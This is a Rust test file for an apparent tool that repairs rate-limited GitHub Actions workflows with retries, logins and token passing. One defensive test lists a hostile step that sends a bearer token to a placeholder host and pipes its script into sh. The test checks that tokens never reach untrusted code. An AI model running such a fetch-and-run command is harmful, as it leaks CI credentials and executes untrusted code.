use crate::test_support::*;
use crate::{Category, FailureInput, RateLimitService};

fn first_fix(f: &FailureInput, src: &str) -> autoheal_engine::Fix {
    let o = outcome(f, src);
    o.fixes
        .into_iter()
        .next()
        .unwrap_or_else(|| panic!("no fix: {:?}", o.manual_reason))
}

fn limited(service: RateLimitService, job: &str) -> FailureInput {
    FailureInput::new(Category::RateLimit, None)
        .in_job(job)
        .limited_by(service)
}

#[test]
fn a_docker_pull_is_retried_and_logged_in_with_existing_secrets() {
    let src = "\
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Pull base image
        run: |
          echo pulling
          docker pull python:3.12-slim   # base
      - name: Push
        if: github.ref == 'refs/heads/main'
        run: echo ${{ secrets.DOCKERHUB_USERNAME }} ${{ secrets.DOCKERHUB_TOKEN }} > /dev/null
";
    let f = limited(RateLimitService::DockerHub, "build").at_step_name("Pull base image");
    let o = outcome(&f, src);
    assert_eq!(
        o.fixes[0].title,
        "Log in to Docker Hub and retry `docker pull python:3.12-slim` in step \"Pull base image\" (Docker Hub rate limit)"
    );
    let out = apply_only(&f, src);
    assert!(out.contains(
        "      - name: Log in to Docker Hub\n        uses: docker/login-action@v3\n        with:\n          username: ${{ secrets.DOCKERHUB_USERNAME }}\n          password: ${{ secrets.DOCKERHUB_TOKEN }}\n      - name: Pull base image\n"
    ), "{out}");
    assert!(out.contains(
        "          echo pulling\n          # Retry with exponential backoff and jitter: the Docker Hub rate limit resets after a while.\n          for attempt in 1 2 3 4 5; do\n            if docker pull python:3.12-slim; then break; fi   # base\n"
    ), "{out}");
    assert!(
        out.contains("            sleep \"$delay\"\n          done\n      - name: Push\n"),
        "{out}"
    );
}

const NPM: &str = "\
on: push
jobs:
  web:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
      - name: Install
        run: |
          npm ci
      - name: Test
        run: npm test
";

#[test]
fn an_npm_429_is_retried_as_the_npm_registry_never_as_docker_hub() {
    let f = limited(RateLimitService::Npm, "web").at_step_name("Install");
    let fix = &first_fix(&f, NPM);
    assert_eq!(
        fix.title,
        "Retry `npm ci` in step \"Install\" (npm registry rate limit)"
    );
    assert!(
        !fix.explanation.contains("Docker") && !fix.title.contains("Docker"),
        "{}",
        fix.explanation
    );
    assert!(fix.explanation.contains("npm registry"));
    let out = apply_only(&f, NPM);
    assert!(out.contains("            if npm ci; then break; fi\n"), "{out}");
    assert!(!out.contains("login"), "no registry login for npm: {out}");
    // The log need not name the step: the only step running npm is it.
    let unnamed = limited(RateLimitService::Npm, "web");
    let fix = &first_fix(&unnamed, NPM);
    assert!(fix.title.contains("step \"Install\""), "{}", fix.title);
}

#[test]
fn ghcr_logs_in_with_the_job_token_and_asks_for_packages_read() {
    let src = "\
on: push
permissions:
  contents: read
jobs:
  it:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: docker pull ghcr.io/o/img:1
";
    let f = limited(RateLimitService::Ghcr, "it");
    let fix = &first_fix(&f, src);
    assert!(
        fix.title
            .starts_with("Log in to ghcr.io and allow `packages: read` and retry"),
        "{}",
        fix.title
    );
    assert!(!fix.title.contains("Docker Hub") && !fix.explanation.contains("Docker Hub"));
    let out = apply_only(&f, src);
    assert!(
        out.contains("permissions:\n  contents: read\n  packages: read\n"),
        "{out}"
    );
    assert!(out.contains(
        "      - name: Log in to GitHub Container Registry\n        uses: docker/login-action@v3\n        with:\n          registry: ghcr.io\n          username: ${{ github.actor }}\n          password: ${{ secrets.GITHUB_TOKEN }}\n"
    ), "{out}");
}

#[test]
fn an_anonymous_github_limit_gets_the_token_through_the_actions_documented_input() {
    let src = "on: push\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: arduino/setup-task@v2\n        with:\n          version: 3.x\n      - run: task lint\n";
    let f = limited(RateLimitService::GithubRestPrimary, "lint").at_step_name("arduino/setup-task@v2");
    let fix = &first_fix(&f, src);
    assert_eq!(
        fix.title,
        "Pass the job's token to `arduino/setup-task` (`repo-token`) in step \"Run arduino/setup-task@v2\" (GitHub REST API rate limit)"
    );
    let out = apply_only(&f, src);
    assert!(
        out.contains("          version: 3.x\n          repo-token: ${{ secrets.GITHUB_TOKEN }}\n"),
        "{out}"
    );
    // An action that already sends the job's token by default: nothing to add.
    let go = "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-go@v1\n";
    let why = manual_reason(&limited(RateLimitService::GithubRestPrimary, "b").at_step_number(2), go);
    assert!(why.contains("predates that default"), "{why}");
}

#[test]
fn a_token_never_goes_to_a_step_that_runs_project_code() {
    let src = "on: push\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Fetch\n        run: |\n          curl -fsSH \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/repos/o/r/releases/latest | jq -r .tag_name\n";
    let f = limited(RateLimitService::GithubRestPrimary, "r");
    let out = apply_only(&f, src);
    assert!(
        out.ends_with("        env:\n          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n"),
        "{out}"
    );
    let with_build = src.replace("| jq -r .tag_name\n", "| jq -r .tag_name\n          make release\n");
    let why = manual_reason(&f, &with_build);
    assert!(
        why.contains("`make release`") && why.contains("project's own code"),
        "{why}"
    );
    let no_var = src.replace("-fsSH \"Authorization: Bearer $GITHUB_TOKEN\" ", "-fsS ");
    assert!(manual_reason(&f, &no_var).contains("does not send a token"));
}

#[test]
fn a_used_up_token_quota_is_not_fixed_and_secondary_limits_wait_a_minute() {
    let src = "on: push\r\njobs:\r\n  release:\r\n    runs-on: ubuntu-latest\r\n    steps:\r\n      - run: gh api repos/o/r/issues -f title=x\r\n";
    let mut f = limited(RateLimitService::GithubRestPrimary, "release");
    f.rate_limit_authenticated = Some(true);
    assert!(manual_reason(&f, src).contains("hourly quota"));
    let secondary = limited(RateLimitService::GithubRestSecondary, "release");
    let o = outcome(&secondary, src);
    assert!(
        o.fixes[0].explanation.contains("60, 120, 240, 480 seconds"),
        "{}",
        o.fixes[0].explanation
    );
    let out = apply_only(&secondary, src);
    assert!(out.contains("      - run: |\r\n          # Retry"), "{out:?}");
    assert!(
        out.contains("            if gh api repos/o/r/issues -f title=x; then break; fi\r\n"),
        "{out:?}"
    );
    assert!(
        out.contains("delay=$(( (1 << (attempt - 1)) * 60 + RANDOM % 10 ))"),
        "{out:?}"
    );
}

#[test]
fn maven_central_caches_dependencies_and_retries_the_build() {
    let src = "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-java@v4\n        with:\n          distribution: temurin\n          java-version: '21'\n      - run: ./mvnw -B verify\n";
    let f = limited(RateLimitService::MavenCentral, "build");
    let fix = &first_fix(&f, src);
    assert_eq!(
        fix.title,
        "Cache maven dependencies and retry `./mvnw -B verify` in step \"Run ./mvnw -B verify\" (Maven Central rate limit)"
    );
    let out = apply_only(&f, src);
    assert!(
        out.contains("          java-version: '21'\n          cache: maven\n"),
        "{out}"
    );
}

#[test]
fn actions_without_credentials_or_unknown_services_say_why() {
    let src =
        "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: docker/build-push-action@v6\n";
    let why = manual_reason(&limited(RateLimitService::DockerHub, "b"), src);
    assert!(
        why.contains("no Docker Hub credentials") && why.contains("runs an action"),
        "{why}"
    );
    let pull = "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker pull node:20\n";
    let o = outcome(&limited(RateLimitService::DockerHub, "b"), pull);
    assert!(
        o.fixes[0].explanation.contains("no Docker Hub credentials"),
        "{}",
        o.fixes[0].explanation
    );
    assert!(manual_reason(&limited(RateLimitService::Other, "b"), pull).contains("no fix"));
    let mut unnamed = FailureInput::new(Category::RateLimit, Some("Docker Hub")).in_job("b");
    unnamed.rate_limit = None;
    assert!(manual_reason(&unnamed, pull).contains("which service"));
}

/// The hostile case: a test run printed "API rate limit exceeded" (a fork's
/// test can print anything). Whatever the step sends, the token never goes
/// to the code under test.
#[test]
fn a_test_step_that_printed_a_rate_limit_never_gets_the_token() {
    let f = limited(RateLimitService::GithubRestPrimary, "t").at_step_number(2);
    for run in [
        "pytest -q",
        "GITHUB_TOKEN=$GITHUB_TOKEN pytest -q",
        "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/x && pytest -q",
        "curl -sH \"Authorization: Bearer $GH_TOKEN\" https://x.example/i.sh | sh",
        "echo $(./scripts/release.sh $GITHUB_TOKEN)",
    ] {
        let src = format!(
            "on: pull_request\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: {run}\n"
        );
        let out = outcome(&f, &src);
        assert!(out.fixes.is_empty(), "{run}: {:?}", out.fixes);
    }
}

/// Quay.io limits every client the same way and the Go proxy's limits are
/// transient: the fix is a retry around the command that talked to them,
/// found in the job when the log names no step.
#[test]
fn quay_and_the_go_proxy_get_a_retry_around_their_command_only() {
    let src = "\
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-go@v5
      - name: Modules
        run: go mod download
      - name: Image
        run: |
          docker pull quay.io/acme/base:1
          make image
";
    let quay = limited(RateLimitService::Quay, "build");
    let fix = first_fix(&quay, src);
    assert_eq!(
        fix.title,
        "Retry `docker pull quay.io/acme/base:1` in step \"Image\" (Quay.io rate limit)"
    );
    let out = apply_only(&quay, src);
    assert!(
        out.contains("    if docker pull quay.io/acme/base:1; then break; fi\n"),
        "{out}"
    );
    assert!(
        out.contains("          make image\n"),
        "the other line is untouched: {out}"
    );
    assert!(out.contains("        run: go mod download\n"), "{out}");

    let go = limited(RateLimitService::GoProxy, "build");
    assert_eq!(
        first_fix(&go, src).title,
        "Retry `go mod download` in step \"Modules\" (Go module proxy rate limit)"
    );
    let out = apply_only(&go, src);
    assert!(out.contains("          if go mod download; then break; fi\n"), "{out}");
}

/// ECR Public: a retry, and the explanation says a login needs AWS
/// credentials (never invented); an action's pull cannot be retried.
#[test]
fn ecr_public_is_retried_and_the_login_is_only_suggested() {
    let src = "\
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: docker pull public.ecr.aws/docker/library/redis:7
      - uses: docker/build-push-action@v6
";
    let f = limited(RateLimitService::EcrPublic, "test")
        .at_step_name("Run docker pull public.ecr.aws/docker/library/redis:7");
    let fix = first_fix(&f, src);
    assert!(fix.title.ends_with("(Amazon ECR Public rate limit)"), "{}", fix.title);
    assert!(fix.explanation.contains("needs AWS credentials"), "{}", fix.explanation);
    assert!(fix.edits.iter().all(|e| !e.new_text.contains("amazon-ecr-login")));
    let action = limited(RateLimitService::EcrPublic, "test").at_step_name("Run docker/build-push-action@v6");
    let reason = manual_reason(&action, src);
    assert!(reason.contains("runs an action"), "{reason}");
}

/// The log of a secondary limit does not say which `gh` call was refused:
/// each whole `gh` command of the step is retried on its own; lines that are
/// part of a longer command (heredoc, string, continuation) never are.
#[test]
fn every_whole_command_that_talks_to_the_service_is_retried_when_the_log_names_none() {
    let src = "\
on: push
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - name: Label
        run: |
          echo start
          gh issue edit 1 --add-label bug
          cat > note.md <<'EOF'
          gh is mentioned here
          EOF
          gh issue comment 1 --body-file note.md   # note
";
    let f = limited(RateLimitService::GithubRestSecondary, "triage").at_step_name("Label");
    let fix = first_fix(&f, src);
    assert_eq!(
        fix.title,
        "Retry `gh issue edit …` and 1 more command(s) in step \"Label\" (GitHub REST API secondary rate limit)"
    );
    assert!(
        fix.explanation.contains("each one that talks to the service"),
        "{}",
        fix.explanation
    );
    let out = apply_only(&f, src);
    assert!(
        out.contains("            if gh issue edit 1 --add-label bug; then break; fi\n"),
        "{out}"
    );
    assert!(
        out.contains("            if gh issue comment 1 --body-file note.md; then break; fi   # note\n"),
        "{out}"
    );
    assert!(
        out.contains("          gh is mentioned here\n          EOF\n"),
        "the heredoc is untouched: {out}"
    );
    assert_eq!(out.matches("for attempt in").count(), 2, "{out}");

    // A `gh` line that continues another command is not cut out of it.
    let continued = src.replace("          echo start\n", "          echo start &&\n");
    let reason = manual_reason(&f, &continued);
    assert!(reason.contains("part of a longer command"), "{reason}");
    // A string spanning lines is not a command.
    let string = src.replace(
        "          echo start\n",
        "          echo \"usage:\n          gh issue list\n          \"\n",
    );
    let out = apply_only(&f, &string);
    assert!(out.contains("          gh issue list\n          \"\n"), "{out}");
    // Past four such lines the script would be rewritten: a person does it.
    let many = src.replace(
        "          echo start\n",
        "          gh issue list\n          gh pr list\n          gh run list\n",
    );
    assert!(manual_reason(&f, &many).contains("5 commands of the script"));
    // A command continued with `\` is one command, wrapped whole.
    let multi = src.replace(
        "          gh issue edit 1 --add-label bug\n",
        "          gh pr create \\\n            --title \"Bump\" \\\n            --body \"x\"\n",
    );
    let out = apply_only(&f, &multi);
    assert!(
        out.contains(
            "            if gh pr create \\\n              --title \"Bump\" \\\n              --body \"x\"; then break; fi\n"
        ),
        "{out}"
    );
}

/// `curl` talks to the GitHub API only when the line names it: an installer
/// download in the same step is left alone.
#[test]
fn only_curl_lines_that_name_the_github_api_count_as_github_calls() {
    let src = "\
on: push
jobs:
  r:
    runs-on: ubuntu-latest
    steps:
      - name: Release
        run: |
          curl -fsSL https://example.org/install.sh -o install.sh
          curl -fsS https://api.github.com/repos/o/r/releases/latest -o latest.json
";
    let f = limited(RateLimitService::GithubRestSecondary, "r").at_step_name("Release");
    let out = apply_only(&f, src);
    assert_eq!(out.matches("for attempt in").count(), 1, "{out}");
    assert!(
        out.contains("          curl -fsSL https://example.org/install.sh -o install.sh\n"),
        "{out}"
    );
}
